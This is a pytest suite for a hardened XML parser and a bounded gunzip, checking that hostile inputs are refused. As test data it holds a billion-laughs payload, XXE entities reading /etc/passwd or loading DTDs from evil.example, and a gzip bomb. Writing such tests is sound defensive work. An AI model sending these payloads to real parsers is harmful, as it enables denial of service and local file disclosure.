"""Hardened XML parsing and bounded gunzip (DESIGN.md: hostile XML and gzip bombs are refused)."""

from __future__ import annotations

import gzip
import threading
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from simulator.codecs import xmlsafe
from simulator.codecs.xmlsafe import DecompressionRefused, XmlRefused, gunzip_limited, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""


def test_parses_plain_xml_and_keeps_comments() -> None:
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><a x="1"><!-- kept --><b>t</b></a>')
    assert root.tag == "a"
    assert root.findtext("b") == "t"
    assert len(root) == 2  # the comment is a node: C14N without comments still sees a faithful tree


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(XmlRefused, match="entity declarations"):
        parse_xml(BILLION_LAUGHS)


@pytest.mark.parametrize(
    "doc",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>',
        b'<?xml version="1.0"?>\n<!-- c --><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        b"<!DOCTYPE a><a/>",
    ],
    ids=["xxe-file", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_any_doctype_is_refused(doc: bytes) -> None:
    with pytest.raises(XmlRefused, match=r"DOCTYPE|entity|DTD"):
        parse_xml(doc)


def test_doctype_in_utf16_is_refused() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode("utf-16")
    with pytest.raises(XmlRefused, match="entity declarations"):
        parse_xml(doc)


@pytest.mark.parametrize("system_id", ["http://evil.example/a.dtd", "/etc/hostname"])
def test_external_dtd_behind_a_prolog_comment_is_refused(system_id: str) -> None:
    """A "<a>" inside a prolog comment must not end the DOCTYPE scan early."""
    doc = f'<!-- <a> --><!DOCTYPE a SYSTEM "{system_id}"><a/>'.encode()
    with pytest.raises(XmlRefused, match="external DTD"):
        parse_xml(doc)


def test_doctype_text_inside_cdata_is_not_a_false_positive() -> None:
    root = parse_xml(b"<a><![CDATA[<!DOCTYPE x>]]></a>")
    assert root.text == "<!DOCTYPE x>"


def test_oversize_input_is_refused_before_parsing() -> None:
    with pytest.raises(XmlRefused, match="exceeds the limit of 100 bytes"):
        parse_xml(b"<a>" + b"x" * 200 + b"</a>", max_bytes=100)


@pytest.mark.parametrize("doc", [b"", b"<a>", b"<a></b>", b"not xml"])
def test_malformed_input_is_refused(doc: bytes) -> None:
    with pytest.raises(XmlRefused):
        parse_xml(doc)


def test_non_bytes_input_is_refused() -> None:
    with pytest.raises(XmlRefused, match="must be bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_excessive_nesting_is_refused_without_huge_tree() -> None:
    assert parse_xml(b"<a>" * 100 + b"</a>" * 100).tag == "a"
    with pytest.raises(XmlRefused, match="not well-formed"):
        parse_xml(b"<a>" * 5000 + b"</a>" * 5000)


def test_one_parser_per_thread() -> None:
    parsers: list[object] = []
    errors: list[BaseException] = []

    def work() -> None:
        try:
            for i in range(200):
                assert parse_xml(f"<r><i>{i}</i></r>".encode()).findtext("i") == str(i)
            parsers.append(xmlsafe._parser())
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert len({id(p) for p in parsers}) == 4
    assert xmlsafe._parser() is xmlsafe._parser()


# --- gunzip_limited -------------------------------------------------------------------------


def test_gunzip_round_trip_and_multi_member() -> None:
    assert gunzip_limited(gzip.compress(b"hello"), max_bytes=5) == b"hello"
    assert gunzip_limited(gzip.compress(b"ab") + gzip.compress(b"cd"), max_bytes=10) == b"abcd"
    assert gunzip_limited(gzip.compress(b"ab") + b"\x00" * 8, max_bytes=10) == b"ab"


def test_gzip_bomb_is_stopped_at_the_cap() -> None:
    bomb = gzip.compress(b"\x00" * (64 * 2**20), compresslevel=9)  # 64 MiB of zeros, ~64 KiB sent
    assert len(bomb) < 100_000
    with pytest.raises(DecompressionRefused, match="exceeds the limit of 1048576 bytes") as info:
        gunzip_limited(bomb, max_bytes=2**20)
    assert info.value.limit_exceeded


def test_cap_is_exact() -> None:
    data = gzip.compress(b"x" * 1000)
    assert len(gunzip_limited(data, max_bytes=1000)) == 1000
    with pytest.raises(DecompressionRefused):
        gunzip_limited(data, max_bytes=999)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"plain text", "not a gzip stream"),
        (zlib.compress(b"zlib, not gzip"), "not a gzip stream"),
        (gzip.compress(b"x" * 100)[:-12], "truncated"),
        (gzip.compress(b"abc")[:10] + b"\xff" * 20, "corrupt"),
        (gzip.compress(b"abc") + b"junk", "trailing garbage"),
    ],
    ids=["text", "zlib", "truncated", "corrupt", "trailing"],
)
def test_bad_gzip_is_refused(data: bytes, reason: str) -> None:
    with pytest.raises(DecompressionRefused, match=reason) as info:
        gunzip_limited(data, max_bytes=10_000)
    assert not info.value.limit_exceeded


@given(st.binary(max_size=5000))
def test_gunzip_inverts_gzip(data: bytes) -> None:
    assert gunzip_limited(gzip.compress(data, mtime=0), max_bytes=len(data)) == data


def test_the_shared_parser_never_opens_an_external_subset() -> None:
    """Defence in depth below the pre-scan: libxml2 would read a local external subset even with
    load_dtd=False ("Content error in the external subset"); the resolver stops that."""
    with pytest.raises(XmlRefused, match="external reference '/etc/hostname' refused"):
        etree.fromstring(b'<!DOCTYPE a SYSTEM "/etc/hostname"><a/>', xmlsafe._parser())
